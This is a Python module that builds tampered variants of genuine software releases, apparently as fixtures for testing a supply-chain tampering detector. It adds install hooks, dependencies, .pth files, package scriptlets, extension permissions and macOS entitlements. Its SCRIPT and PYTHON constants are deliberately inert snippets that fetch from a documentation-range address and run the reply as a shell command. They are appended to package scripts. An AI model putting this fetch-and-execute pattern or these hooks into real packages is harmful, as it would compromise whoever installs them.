"""Changes of what a release says and runs: manifests, hooks, scripts; laid over the genuine one."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

from genuine import Base, Files

from mutation_families.edits import CHANGE, Edit
from mutation_families.linux import with_control
from mutation_families.releases import later, pack
from onionskin.lookalike.archives import build_zip
from onionskin.lookalike.macho import AppleSigning, MachRecipe, build_macho, sign_macho
from onionskin.lookalike.msi import Contents, build_msi
from onionskin.lookalike.rpm import RpmRecipe, build_rpm

# Inert: never called, an address that nobody has (RFC 5737), a program that does not exist.
SCRIPT = (
    b"\nfunction inertNeverCalled() {\n  const child = require('child_process');\n"
    b"  require('https').get('https://192.0.2.1/inert', (answer) => child.exec('inert-no-such-program'));\n}\n"
)
PYTHON = (
    b"\ndef _inert_never_called():\n    import subprocess, urllib.request\n"
    b"    subprocess.run(urllib.request.urlopen('https://192.0.2.1/inert').read(), shell=True)\n"
)
ENTITLEMENTS = (
    "com.apple.security.cs.disable-library-validation",
    "com.apple.security.cs.allow-unsigned-executable-memory",
    "com.apple.security.get-task-allow",
    "com.apple.security.files.all",
)


def manifests(package: str, files: Files) -> Iterator[Edit]:
    """Change a wheel's or a npm package's manifest, its hooks and one script."""
    old, newer = pack(package, files), later(files)

    def edit(family: str, what: str, change: Files) -> Edit:
        return Edit(package, f"{CHANGE} {family}", what, pack(package, newer | change), suffix=Path(package).suffix, against=old)  # fmt: skip

    if package.endswith(".whl"):
        yield from _wheel(newer, edit)
        return
    name = "package/package.json"
    for hook in ("preinstall", "install", "postinstall"):
        made = _manifest(newer[name], "scripts", {hook: "node inert.js"})
        yield edit("install hook added", hook, {name: made, "package/inert.js": b"// inert\n"})
    for number in (1, 2):
        needs = {f"inert-{each}": "^1.0.0" for each in range(number)}
        yield edit("dependency added", f"{number}", {name: _manifest(newer[name], "dependencies", needs)})  # fmt: skip
    scripts = [each for each in sorted(newer) if each.endswith((".js", ".cjs")) and each.count("/") > 0]  # fmt: skip
    for each in scripts[:3]:
        yield edit("a script begins to connect and to start", each, {each: newer[each] + SCRIPT})
        yield edit("same version, new script", each, files | {each: files[each] + b"\n// inert\n"})


def _wheel(newer: Files, edit: Callable[[str, str, Files], Edit]) -> Iterator[Edit]:
    name = next(each for each in newer if each.endswith(".dist-info/METADATA"))
    # Some METADATA have no blank line: what stands behind the version is a field in each.
    head, line, body = newer[name].partition(b"\nVersion: ")
    stated, end, body = body.partition(b"\n")
    for number in (1, 2):
        lines = b"".join(b"\nRequires-Dist: inert-%d" % each for each in range(number))
        yield edit(
            "dependency added", f"{number}", {name: head + line + stated + lines + end + body}
        )
    for line in (b"import inert\n", b"import os; os.environ.get('INERT')\n"):
        yield edit("start-up file added", line.decode().strip(), {"inert.pth": line})
    scripts = [each for each in sorted(newer) if each.endswith(".py")]
    for each in scripts[:3]:
        yield edit("a script begins to connect and to start", each, {each: newer[each] + PYTHON})


def _manifest(data: bytes, key: str, more: dict[str, str]) -> bytes:
    made = json.loads(data)
    made[key] = made.get(key, {}) | more
    return json.dumps(made, indent=2).encode()


def deb_scripts(base: Base) -> Iterator[Edit]:
    """Give a genuine deb a maintainer script more, one revision later."""
    for name in ("preinst", "config", "prerm"):
        made = with_control(base.data, f"./{name}", b"#!/bin/sh\n# inert\ntrue\n", b"99:1-1")
        yield Edit(base.title, f"{CHANGE} maintainer script added", name, made, suffix=".deb", against=base.data)  # fmt: skip


def built_changes(base: Base) -> Iterator[Edit]:
    """Change releases that were built here around a genuine program: MSI, rpm, extension, Mach-O."""
    files = {"Example/program.exe": base.data}
    before = build_msi(files)
    for kind, source in ((34, "TARGETDIR"), (50, "INERT")):
        actions = (("Inert", kind, source, "inert.exe"),)
        made = build_msi(files, version="18.12.417", contents=Contents(actions=actions))
        yield Edit(base.title, f"{CHANGE} installer action added", f"type {kind}", made, suffix=".msi", against=before)  # fmt: skip
    packed = {"/opt/inert/program": base.data}
    old = build_rpm(RpmRecipe(files=packed))
    for tag in (1023, 1024, 1025):
        made = build_rpm(RpmRecipe(version="1.0.1", files=packed, scriptlets={tag: "true # inert"}))
        yield Edit(base.title, f"{CHANGE} scriptlet added", f"tag {tag}", made, suffix=".rpm", against=old)  # fmt: skip
    extension = {"name": "Inert", "version": "1.0.0", "manifest_version": 3, "permissions": ["storage"]}  # fmt: skip
    for more in ("<all_urls>", "cookies", "nativeMessaging"):
        grown = extension | {"version": "1.0.1", "permissions": ["storage", more]}
        yield Edit(base.title, f"{CHANGE} permission added", more, _extension(grown), suffix=".xpi", against=_extension(extension))  # fmt: skip
    code = build_macho(MachRecipe(is_library=False, code_size=0x4000))
    signed = sign_macho(code, AppleSigning(entitlements={}))
    for each in ENTITLEMENTS:
        made = sign_macho(code, AppleSigning(entitlements={each: True}))
        yield Edit("built here", f"{CHANGE} entitlements grown", each, made, suffix=".macho", against=signed)  # fmt: skip
    soft = sign_macho(code, AppleSigning(entitlements={}, is_hardened=False))
    yield Edit("built here", f"{CHANGE} hardening lost", "the flag", soft, suffix=".macho", against=signed)  # fmt: skip
    other = sign_macho(code, AppleSigning(entitlements={}, team="OTHER54321", certificate_team="OTHER54321"))  # fmt: skip
    yield Edit("built here", f"{CHANGE} another team", "same name", other, suffix=".macho", against=signed)  # fmt: skip


def _extension(manifest: dict[str, object]) -> bytes:
    return build_zip({"manifest.json": json.dumps(manifest).encode(), "inert.js": b"// inert\n"})
